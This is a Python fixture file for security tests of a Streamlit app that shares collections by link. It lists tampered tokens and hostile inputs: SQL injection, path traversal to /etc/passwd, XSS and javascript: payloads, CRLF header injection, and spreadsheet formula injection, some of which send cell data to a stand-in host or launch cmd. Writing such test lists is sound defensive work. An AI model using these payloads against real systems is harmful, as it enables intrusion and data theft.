"""The attack list: what is tried, where, and what the answer must be. It is here to be read.

Each list has a test that runs it, named above it. An attack gets through if something is shown that
was not shared, or changed by somebody who may not; if a page breaks instead of saying something; or
if what a stranger wrote is run, fetched or taken for markup.
"""

from collections.abc import Callable
from dataclasses import dataclass

NO_LINK = "This link is no longer shared"
SIGN_IN = "Sign in"
NO_COLLECTION = "Nobody has given you access to a collection"


@dataclass(frozen=True, slots=True, kw_only=True)
class TokenCase:
    """A token that is not quite the one of a link."""

    id: str
    alter: Callable[[str], str]
    answer: str = NO_LINK


def _swap(token: str, place: int) -> str:
    return f"{token[:place]}{'A' if token[place] != 'A' else 'B'}{token[place + 1 :]}"


# tests/attacks/test_tokens.py, on a live link and on a snapshot
TOKENS = (
    TokenCase(id="first sign is another", alter=lambda token: _swap(token, 0)),
    TokenCase(id="middle sign is another", alter=lambda token: _swap(token, 20)),
    TokenCase(id="last but one is another", alter=lambda token: _swap(token, 41)),
    TokenCase(id="capitals and small letters swapped", alter=lambda token: token.swapcase()),
    TokenCase(id="all small", alter=lambda token: f"{token[:-1].lower()}."),
    TokenCase(id="cut short", alter=lambda token: token[:-1]),
    TokenCase(id="half of it", alter=lambda token: token[:21]),
    TokenCase(id="doubled", alter=lambda token: token * 2),
    TokenCase(id="one sign more", alter=lambda token: f"{token}A"),
    TokenCase(id="padded", alter=lambda token: f"{token}="),
    TokenCase(id="space before", alter=lambda token: f" {token}"),
    TokenCase(id="line end after", alter=lambda token: f"{token}\n"),
    TokenCase(id="turned round", alter=lambda token: token[::-1][:-1] + "."),
    TokenCase(id="NUL in it", alter=lambda token: f"{token[:21]}\0{token[22:]}"),
    TokenCase(id="NUL after it", alter=lambda token: f"{token}\0"),
    TokenCase(id="wide letters", alter=lambda token: f"{token[:-1]}Ａ"),
    TokenCase(id="cyrillic letter", alter=lambda token: f"{token[:-1]}а"),
    TokenCase(id="right to left", alter=lambda token: f"\u202e{token[1:]}"),
    TokenCase(id="any of them", alter=lambda token: "%"),
    TokenCase(id="pattern", alter=lambda token: "_" * 43),
    TokenCase(id="the number of the link", alter=lambda token: "1"),
    TokenCase(id="SQL", alter=lambda token: "' OR 1=1 --"),
    TokenCase(id="path", alter=lambda token: "../../onrecord.db"),
    TokenCase(id="made up", alter=lambda token: "A" * 43),
    # Streamlit reads no address of that length: it is as if there were no token.
    TokenCase(id="10 MB", alter=lambda token: "A" * 10_000_000, answer=SIGN_IN),
    TokenCase(id="a list", alter=lambda token: f"['{token}']"),
    TokenCase(id="a script", alter=lambda token: "<script>alert(1)</script>"),
)


@dataclass(frozen=True, slots=True, kw_only=True)
class ParameterCase:
    """Something that no parameter of an address is meant to be."""

    id: str
    value: str | list[str]


# tests/attacks/test_addresses.py: each of them in every parameter of every page
PARAMETERS = (
    ParameterCase(id="empty", value=""),
    ParameterCase(id="negative", value="-1"),
    ParameterCase(id="huge number", value="9" * 400),
    ParameterCase(id="more than a database counts", value="2147483648"),
    ParameterCase(id="not a number", value="NaN"),
    ParameterCase(id="infinite", value="1e999"),
    ParameterCase(id="other digits", value="١٢"),
    ParameterCase(id="overlong", value="x" * 100_000),
    ParameterCase(id="NUL", value="a\0b"),
    ParameterCase(id="no letters", value="\uffff\ufffd\x7f\x1b[31m"),
    ParameterCase(id="right to left", value="\u202eexe.txt"),
    ParameterCase(id="line ends", value="a\r\nSet-Cookie: b=c"),
    ParameterCase(id="SQL", value="' OR 1=1; DROP TABLE article; --"),
    ParameterCase(id="search language", value='"' * 31 + "NEAR(a b) OR * AND NOT ("),
    ParameterCase(id="path", value="../../../etc/passwd"),
    ParameterCase(id="script", value="<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ParameterCase(id="Markdown", value="[a](javascript:alert(1)) ![b](https://out.example/b.png)"),
    ParameterCase(id="colour and LaTeX", value=":red[x] $\\href{javascript:alert(1)}{y}$"),
    ParameterCase(id="template", value="{{7*7}} ${7*7} %(x)s {0}"),
    ParameterCase(id="repeated", value=["1", "2", "'"]),
    ParameterCase(id="a date that there is not", value="2025-02-31"),
    ParameterCase(id="span", value="5-1"),
    ParameterCase(id="JSON", value='{"$ne": null}'),
)

# What strangers write: titles, texts, file names, outlets, authors, names, notes. Each is put into
# every field in tests/attacks/test_words.py and in tests/attacks/test_browser.py.
WORDS = {
    "script": "<script>window.hit=1</script>",
    "image": "<img src=x onerror=window.hit=1>",
    "svg": "<svg/onload=window.hit=1>",
    "out of an attribute": "\"><b onmouseover='window.hit=1'>x</b>",
    "out of a text": "</textarea></title></style><script>window.hit=1</script>",
    "link": '<a href="javascript:window.hit=1">press</a>',
    "Markdown link": "[press](javascript:window.hit=1)",
    "Markdown image": "![x](https://out.example/x.png)",
    "auto link": "<https://out.example/> https://out.example/",
    "style": "<style>*{background:url(https://out.example/y.png)}</style>",
    "form": '<form action="https://out.example/"><button>Sign in</button></form>',
    "frame": "<iframe src=https://out.example/></iframe>",
    "colour": ":red[**red**] :material/home: :streamlit:",
    "LaTeX": "$\\href{javascript:window.hit=1}{x}$ $$\\url{https://out.example/}$$",
    "Plotly": '<a href="javascript:window.hit=1">x</a><br><b>y</b>%{x}<extra></extra>',
    "template": "{{7*7}} {% include 'x' %} ${7*7}",
    "line ends": "a\r\nX-Forged: 1\r\n\r\n<b>",
    "right to left": "\u202egpj.exe\u2066",
    "path": "../../../etc/passwd",
    "formula": '=HYPERLINK("https://out.example/","x")',
    "quotes": '"\'`\\";&quot;&lt;',
}

FORMULAS = (
    '=HYPERLINK("https://out.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "x;=1+1",
    "x\n=1+1",
    ' =IMPORTXML("https://out.example/","//a")',
    "{=1+1}",
)
